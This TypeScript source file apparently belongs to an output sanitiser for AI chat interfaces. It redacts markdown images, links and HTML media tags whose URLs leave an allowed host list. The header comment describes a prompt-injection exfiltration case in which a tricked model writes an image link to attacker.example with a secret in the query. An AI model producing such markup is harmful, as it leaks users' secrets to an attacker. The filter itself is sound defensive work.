// Exfiltration through rendered markup: a model tricked by injected content writes
// `![](https://attacker.example/?q=<secret>)` and the chat UI fetches it with no click.
// These finders locate images, links and HTML media whose URL leaves the allowed hosts.
//
// Every construct is confined to one line and every part is bounded, so a match never
// spans more than URL_MAX_SPAN characters and `urlBoundary` can say which tail of a
// growing text could still turn into (or extend) a match.

import type { Span } from './spans.js';

/** Longest URL inside one construct; longer ones are cut at this length (the rest is plain text). */
const URL_CHARS = 2048;
/** Longest alt/link text. */
const LABEL_CHARS = 256;
/** Longest span a URL construct can cover. */
export const URL_MAX_SPAN = URL_CHARS + LABEL_CHARS + 64;

// URL characters exclude brackets and parentheses so that an open construct can only start
// at the last `[` (or `<`) of a line; see `urlBoundary`.
const URL_PART = `[^\\s<>()\\[\\]]{1,${URL_CHARS}}`;
const LABEL = `[^\\[\\]\\n]{0,${LABEL_CHARS}}`;
/** `![alt](url)` and `[text](url)`. */
const INLINE = new RegExp(`(!?)\\[(${LABEL})\\]\\([ \\t]*<?(${URL_PART})>?[ \\t]*\\)`, 'g');
/** A destination without a well-formed start or end, e.g. nested brackets in the alt text. */
const DESTINATION = new RegExp(`\\]\\([ \\t]*<?(${URL_PART})`, 'g');
/** Reference definitions `[ref]: url`, used by `![alt][ref]`. */
const REFERENCE = new RegExp(`\\[(${LABEL})\\]:[ \\t]*<?(${URL_PART})`, 'g');
/** HTML elements that fetch or link. */
const TAG =
  /<(img|image|picture|source|video|audio|iframe|frame|embed|object|script|link|input|body|table|td|svg|use|a|form|meta)\b[^<>\n]{0,2048}>/gi;
const ATTR =
  /\b(src|srcset|href|xlink:href|data|poster|background|action|formaction|lowsrc|dynsrc|content)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;
const CSS_URL = /url\(\s*['"]?([^'")\s]+)/gi;
const LINK_TAGS = new Set(['a', 'form']);
const TAG_NAMES = TAG.source.slice(2, TAG.source.indexOf(')')).split('|');

// Viability of the tail that starts at the last `[` of the last line: could more text still
// complete or extend a construct from there?
const VIABLE_BRACKET = new RegExp(
  `^\\[${LABEL}(?:\\](?:\\([ \\t]*<?(?:${URL_PART})?>?[ \\t]*|:[ \\t]*<?(?:${URL_PART})?)?)?$`,
);
const VIABLE_DESTINATION = new RegExp(`^\\]\\([ \\t]*<?(?:${URL_PART})?$`);

export interface UrlPolicy {
  /** Allowed hosts, lower case; subdomains of each are allowed too. */
  allow: readonly string[];
  /** Also remove links (`[text](url)`, `<a href>`) to other hosts; images are always removed. */
  links: boolean;
}

const RELATIVE_BASE = 'https://relative.invalid/';

/** Whether a URL (as written in markup) stays on the allowed hosts. Unparseable means no. */
export function urlAllowed(raw: string, policy: UrlPolicy): boolean {
  let u: URL;
  try {
    // Resolving against a placeholder base classifies the relative forms a browser accepts
    // (`//host`, `\\host`, `/\host`) exactly as the browser would.
    u = new URL(raw.trim(), RELATIVE_BASE);
  } catch {
    return false;
  }
  if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
  if (u.href.startsWith(RELATIVE_BASE) && u.hostname === 'relative.invalid' && !/^[a-z][a-z0-9+.-]*:/i.test(raw))
    return true;
  const host = u.hostname.toLowerCase().replace(/\.$/, '');
  return policy.allow.some((h) => host === h || host.endsWith(`.${h}`));
}

/** Spans of `text` to remove: disallowed images (and links, when asked) with their markup. */
export function findUrlSpans(text: string, policy: UrlPolicy): Span[] {
  const spans: Span[] = [];
  if (text.indexOf('](') >= 0 || text.indexOf(']:') >= 0) {
    // Where each well-formed construct has its `](`: the DESTINATION fallback skips those.
    const wellFormed = new Set<number>();
    for (const m of text.matchAll(INLINE)) {
      const image = m[1] === '!';
      wellFormed.add(m.index + m[1]!.length + 1 + m[2]!.length);
      if ((!image && !policy.links) || urlAllowed(m[3]!, policy)) continue;
      const end = m.index + m[0].length;
      spans.push(removeSpan(m.index, end, image ? '' : m[2]!, image ? 'image' : 'link'));
    }
    for (const m of text.matchAll(DESTINATION)) {
      // Only a destination not already covered by a well-formed construct; an unknown kind
      // (image or link) is treated as an image: removed whatever `links` says.
      if (wellFormed.has(m.index) || urlAllowed(m[1]!, policy)) continue;
      spans.push(removeSpan(m.index, m.index + m[0].length, ']', 'image'));
    }
    for (const m of text.matchAll(REFERENCE)) {
      if (urlAllowed(m[2]!, policy)) continue;
      spans.push(removeSpan(m.index, m.index + m[0].length, '', 'reference'));
    }
  }
  if (text.indexOf('<') >= 0) {
    for (const m of text.matchAll(TAG)) {
      const tag = m[1]!.toLowerCase();
      if (LINK_TAGS.has(tag) && !policy.links) continue;
      if (tagAllowed(m[0], policy)) continue;
      spans.push(removeSpan(m.index, m.index + m[0].length, '', LINK_TAGS.has(tag) ? 'link' : 'html'));
    }
  }
  return spans;
}

function tagAllowed(tag: string, policy: UrlPolicy): boolean {
  for (const a of tag.matchAll(ATTR)) {
    const name = a[1]!.toLowerCase();
    let value = a[2]!;
    if (value.startsWith('"') || value.startsWith("'")) value = value.slice(1, -1);
    if (name === 'content' && !/url=/i.test(value)) continue;
    if (name === 'content') value = value.replace(/^.*?url=/i, '');
    const urls = name === 'srcset' ? value.split(',').map((c) => c.trim().split(/\s+/)[0] ?? '') : [value];
    for (const u of urls) if (u !== '' && !urlAllowed(decodeEntities(u), policy)) return false;
  }
  for (const c of tag.matchAll(CSS_URL)) if (!urlAllowed(decodeEntities(c[1]!), policy)) return false;
  return true;
}

// `&#x2F;&#x2F;evil` is `//evil` to a browser.
function decodeEntities(s: string): string {
  if (s.indexOf('&') < 0) return s;
  return s
    .replace(/&#x([0-9a-f]{1,6});?/gi, (_, h: string) => safeChar(parseInt(h, 16)))
    .replace(/&#(\d{1,7});?/g, (_, d: string) => safeChar(parseInt(d, 10)))
    .replace(/&colon;/gi, ':')
    .replace(/&sol;/gi, '/')
    .replace(/&period;/gi, '.')
    .replace(/&amp;/gi, '&');
}

function safeChar(cp: number): string {
  return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : '';
}

/**
 * The index before which URL spans of `text` cannot change when text is appended: the start
 * of a construct still open at the end of the last line (a `[`, `](` or `<` whose markup
 * could still complete or grow), else the end.
 */
export function urlBoundary(text: string): number {
  const n = text.length;
  const lo = Math.max(text.lastIndexOf('\n') + 1, n - URL_MAX_SPAN);
  let hold = n;
  const bracket = text.lastIndexOf('[');
  if (bracket >= lo && VIABLE_BRACKET.test(text.slice(bracket))) {
    hold = bracket > 0 && text[bracket - 1] === '!' ? bracket - 1 : bracket;
  }
  const dest = text.lastIndexOf('](');
  if (dest >= lo && dest < hold && VIABLE_DESTINATION.test(text.slice(dest))) hold = dest;
  const lt = text.lastIndexOf('<');
  if (lt >= lo && lt < hold && viableTag(text.slice(lt))) hold = lt;
  return hold;
}

function viableTag(tail: string): boolean {
  const m = /^<([a-zA-Z]*)([^<>\n]*)$/.exec(tail);
  if (!m) return false;
  const name = m[1]!.toLowerCase();
  if (m[2] === '') return TAG_NAMES.some((t) => t.startsWith(name));
  return TAG_NAMES.includes(name) && !/^\w/.test(m[2]!);
}

/** A URL construct taken out of the text (replaced by `replacement`), recorded as a `redact` finding. */
function removeSpan(start: number, end: number, replacement: string, type: string): Span {
  return { start, end, replacement, block: false, finding: { detector: 'url', type, action: 'redact' } };
}
